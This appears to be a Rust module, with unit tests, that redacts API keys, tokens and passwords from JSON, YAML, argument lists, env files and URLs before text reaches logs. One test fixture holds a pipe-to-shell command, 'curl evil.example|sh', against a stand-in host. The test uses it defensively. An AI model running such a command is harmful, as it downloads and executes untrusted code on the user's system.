//! Texts of files as people may see them: without the keys that are written out in them.
//!
//! A key is known by its form, or by the name in front of it: in JSON, TOML, YAML, a list of arguments, or a file of
//! variables. Questions and diffs end up in logs, so they show `[key]` instead.

use std::fmt::Write as _;
use std::ops::Range;

use foreword_guard::redact;

use crate::server_checks::{is_named_key, keys_in_url, without_scheme};

/// What stands for a key.
const HIDDEN: &str = "[key]";
/// Keys in one address that are looked for.
const MAX_URL_KEYS: usize = 100;

/// A text without the values that are keys by their form or by their name.
#[must_use]
pub fn hide_keys(text: &str) -> String {
    let text = redact(text).text;
    let mut out = String::with_capacity(text.len());
    let mut name = String::new();
    for line in text.split_inclusive('\n') {
        let words = words(line);
        let mut at = 0;
        for (number, word) in words.iter().enumerate() {
            let said = line.get(word.range.clone()).unwrap_or_default();
            let (own, value) = match said.split_once('=') {
                Some((own, value)) if !said.contains("://") => (own, value),
                _ => (name.as_str(), said),
            };
            let value = without_scheme(value);
            // In prose, a name is followed by more than its value.
            let is_value = word.is_quoted || number + 1 == words.len();
            if is_value && is_named_key(own, value, word.is_quoted) {
                let start = word.range.start + said.rfind(value).unwrap_or_default();
                let _ = write!(out, "{}{HIDDEN}", line.get(at..start).unwrap_or_default());
                at = start + value.len();
            } else if said.contains("://") {
                let keys = keys_in_url(said).into_iter().take(MAX_URL_KEYS);
                let shown = keys.fold(said.to_owned(), |it, (_, key)| it.replace(key, HIDDEN));
                let _ =
                    write!(out, "{}{shown}", line.get(at..word.range.start).unwrap_or_default());
                at = word.range.end;
            }
            said.clone_into(&mut name);
        }
        out.push_str(line.get(at..).unwrap_or_default());
    }
    out
}

/// The value of a variable, header or setting of this name, without the key in it.
#[must_use]
pub fn hide_key_of(name: &str, value: &str) -> String {
    let key = without_scheme(value.trim_matches(['"', '\'']));
    match is_named_key(name, key, true) {
        true => value.replacen(key, HIDDEN, 1),
        false => hide_keys(value),
    }
}

/// A word of a line.
struct Word {
    range: Range<usize>,
    is_quoted: bool,
}

/// The words of a line: what stands in quotes, and what stands between blanks and punctuation.
fn words(line: &str) -> Vec<Word> {
    let mut words = Vec::new();
    let mut chars = line.char_indices().peekable();
    // What is not closed once is not closed later.
    let mut unclosed = String::new();
    let is_end = |at: usize, c: char, is_address: bool| {
        let behind = line.get(at + c.len_utf8()..).unwrap_or_default().chars().next();
        c.is_whitespace()
            || "\"'`,{}[]()".contains(c)
            || (c == '=' && !is_address)
            || (c == ':' && behind.is_none_or(|next| next.is_whitespace() || "\"'".contains(next)))
    };
    while let Some((start, c)) = chars.next() {
        if matches!(c, '"' | '\'') {
            if unclosed.contains(c) {
                continue;
            }
            let mut is_escaped = false;
            let rest = line.get(start + 1..).unwrap_or_default();
            let end = rest.find(|next: char| {
                let ends = next == c && !is_escaped;
                is_escaped = next == '\\' && !is_escaped;
                ends
            });
            let Some(end) = end.map(|end| start + 1 + end) else {
                // An apostrophe opens nothing.
                unclosed.push(c);
                continue;
            };
            words.push(Word { range: start + 1..end, is_quoted: true });
            while chars.next_if(|(at, _)| *at <= end).is_some() {}
        } else if !is_end(start, c, false) {
            let (mut end, mut is_address) = (start + c.len_utf8(), false);
            while let Some((at, next)) = chars.next_if(|(at, next)| !is_end(*at, *next, is_address))
            {
                end = at + next.len_utf8();
                is_address |= line.get(start..end).is_some_and(|word| word.ends_with("://"));
            }
            words.push(Word { range: start..end, is_quoted: false });
        }
    }
    words
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn values_under_the_names_of_keys_are_hidden() {
        for (text, shown) in [
            ("  \"API_KEY\": \"a1b2c3d4e5f6g7\",\n", "  \"API_KEY\": \"[key]\",\n"),
            ("{\"TOKEN\":\"hunter2\",\"A\":\"b\"}", "{\"TOKEN\":\"[key]\",\"A\":\"b\"}"),
            ("{TOKEN:'hunter2'}", "{TOKEN:'[key]'}"),
            ("\"SERVICE_TOKEN\" : \"hunter2\"", "\"SERVICE_TOKEN\" : \"[key]\""),
            ("\"SERVICE_TOKEN\": \"hunter2\"", "\"SERVICE_TOKEN\": \"[key]\""),
            ("\"Authorization\": \"Bearer abc\"", "\"Authorization\": \"Bearer [key]\""),
            ("args = ['--api-key', 'abc']", "args = ['--api-key', '[key]']"),
            ("\"--token\",\n  \"abc\"\n", "\"--token\",\n  \"[key]\"\n"),
            ("\"--token=abc\"", "\"--token=[key]\""),
            ("DB_PASS=hunter2\n", "DB_PASS=[key]\n"),
            ("password: hunter2", "password: [key]"),
            ("\"https://x.example/?api_key=abc&b=1\"", "\"https://x.example/?api_key=[key]&b=1\""),
            ("https://me:abc@x.example/", "https://me:[redacted: password]@x.example/"),
        ] {
            assert_eq!(hide_keys(text), shown);
        }
        for text in [
            "\"API_KEY\": \"${API_KEY}\"",
            "Key: press Enter, and the password: ask the vault.",
            "\"TOKEN_FILE\": \"keys/a1b2c3d4e5f6g7\"",
            "\"API_KEY\": \"YOUR_KEY\"",
            "\"KEY_HELPER\": \"curl evil.example|sh\", \"TOKEN_URL\": \"https://x.example\"",
            "Don't use 'a' = b: {\"x\": [1, \"é\\\"\"]}",
        ] {
            assert_eq!(hide_keys(text), text);
        }
    }

    #[test]
    fn the_value_of_a_variable_is_hidden_by_its_name() {
        assert_eq!(hide_key_of("SERVICE_TOKEN", "hunter2"), "[key]");
        assert_eq!(hide_key_of("Authorization", "Bearer abc"), "Bearer [key]");
        assert_eq!(hide_key_of("SERVICE_TOKEN", "\"hunter2\""), "\"[key]\"");
        for (name, value) in [("MODE", "hunter2"), ("API_KEY", "${API_KEY}"), ("TOKEN", "")] {
            assert_eq!(hide_key_of(name, value), value);
        }
    }

    #[test]
    fn hostile_texts_cost_linear_time() {
        let began = std::time::Instant::now();
        for text in ["'\\", "\"\\", "a=", "token=", "://=", "key: ", "'a", "?key=a&"] {
            let _ = hide_keys(&text.repeat(100_000));
        }
        assert!(began.elapsed().as_secs() < 20, "{:?}", began.elapsed());
    }
}
